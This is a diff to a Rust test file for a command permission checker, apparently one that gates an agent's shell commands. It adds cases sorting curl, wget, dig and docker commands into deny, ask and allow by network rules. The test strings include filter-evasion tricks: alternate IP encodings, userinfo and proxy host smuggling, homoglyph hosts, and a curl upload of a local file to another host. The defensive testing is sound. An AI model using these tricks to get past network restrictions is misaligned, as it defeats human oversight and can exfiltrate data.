@@ -315,9 +315,121 @@ fn the_network_is_free_to_some_hosts() {
     );
     case.rules.core = Some(vec![entry("*")]);
     case.rules.effects = vec![effect(EffectName::Network, &["*.example.org"], &[], Decision::Deny)];
-    case.says(Decision::Deny, &["curl https://a.example.org/"]);
-    case.says(Decision::Ask, &["curl https://$x/", "curl https://example.net/ a.example.org"]);
+    case.says(
+        Decision::Deny,
+        &[
+            "curl https://a.example.org/",
+            "curl https://example.net/ a.example.org",
+            "curl -x http://a.example.org https://example.net/",
+        ],
+    );
+    case.says(Decision::Ask, &["curl https://$x/", "curl 'https://{a.example.org,x.net}/'"]);
     case.says(Decision::Allow, &["curl https://example.net/", "ls"]);
+}
+
+#[test]
+fn an_exception_for_one_host_is_none_for_the_others() {
+    let case = open_but(effect(EffectName::Network, &[], &["10.9.9.8"], Decision::Deny));
+    case.says(
+        Decision::Deny,
+        &[
+            "curl http://10.9.9.9/b",
+            "curl http://10.9.9.8/a http://10.9.9.9/b",
+            "curl http://10.9.9.8/a --next -d @a.md http://10.9.9.9/b",
+            "curl http://10.9.9.8/a 10.9.9.9",
+            "curl --url http://10.9.9.9 http://10.9.9.8/",
+            "curl -x http://10.9.9.9 http://10.9.9.8/",
+            "curl http://10.9.9.8@10.9.9.9/",
+            "wget http://10.9.9.8/a http://10.9.9.9/b",
+            "aria2c http://10.9.9.8/a http://10.9.9.9/b",
+            "dig 10.9.9.8 evil.example",
+            "dig @evil.example 10.9.9.8",
+            "host 10.9.9.8 evil.example",
+            "nslookup 10.9.9.8 evil.example",
+        ],
+    );
+    case.says(
+        Decision::Ask,
+        &[
+            "curl 'http://10.9.9.8/' 'http://10.9.9.[8-9]/'",
+            "curl http:/10.9.9.9 http://10.9.9.8",
+            "curl http://10.9.9.8/a \"$x\"",
+            "curl --connect-to ::10.9.9.9: http://10.9.9.8/",
+            "wget -H -r http://10.9.9.8/",
+        ],
+    );
+    case.says(
+        Decision::Allow,
+        &[
+            "curl http://10.9.9.8/a",
+            "curl -o x http://10.9.9.8/a http://10.9.9.8/b",
+            "curl 10.9.9.8:80/x",
+            "curl \"http://10.9.9.8/$x\"",
+            "curl http://168364296/",
+            "wget http://10.9.9.8/a",
+            "dig 10.9.9.8 MX +short",
+            "ping -c1 10.9.9.8",
+            "git ls-remote http://10.9.9.8/x",
+        ],
+    );
+}
+
+#[test]
+fn what_fetches_besides_reaches_the_network() {
+    let fetching =
+        ["docker pull evil.example/x", "docker run evil.example/x", "docker login", "apt-get update"];
+    open_but(effect(EffectName::Network, &[], &[], Decision::Deny)).says(Decision::Deny, &fetching);
+}
+
+#[test]
+fn a_rule_about_a_host_is_about_its_other_spellings() {
+    let hosts = ["10.9.9.9", "127.0.0.1", "evil.example"];
+    let case = open_but(effect(EffectName::Network, &hosts, &[], Decision::Deny));
+    case.says(
+        Decision::Deny,
+        &[
+            "curl http://10.9.9.9/",
+            "curl http://168364297/",
+            "curl http://0x0a090909/",
+            "curl http://012.011.011.011/",
+            "curl http://10.9.2313/",
+            "curl 'http://[::ffff:10.9.9.9]/'",
+            "curl 'http://[::FFFF:a09:909]:80/'",
+            "ping 10.592137",
+            "git clone http://168364297/x",
+            "curl http://127.1/",
+            "curl http://0/",
+            "curl http://localhost/",
+            "curl 'http://[::1]/'",
+            "curl http://EVIL.example./",
+        ],
+    );
+    case.says(
+        Decision::Ask,
+        &["curl http://\u{ff45}vil.example", "curl 'http://[e-e]vil.example'", "curl http://e%76il.example"],
+    );
+    case.says(
+        Decision::Allow,
+        &[
+            "curl http://10.9.9.10/",
+            "curl http://168364298/",
+            "curl http://notevil.example/",
+            "curl http://evil.example.org/",
+            "dig example.org",
+        ],
+    );
+    let mut case = allowing(&["ls"]);
+    case.rules.effects = vec![effect(EffectName::Network, &["10.9.9.9"], &[], Decision::Allow)];
+    case.says(Decision::Allow, &["curl http://10.9.9.9/", "curl http://168364297/"]);
+    case.says(
+        Decision::Ask,
+        &[
+            "curl http://168364298/",
+            "curl http://10.9.9.9/ http://10.9.9.10/",
+            "curl http://10.9.9.256/",
+            "aria2c --all-proxy=evil.example http://10.9.9.9/x",
+        ],
+    );
 }
 
 /// Everything is free, and one rule says otherwise.
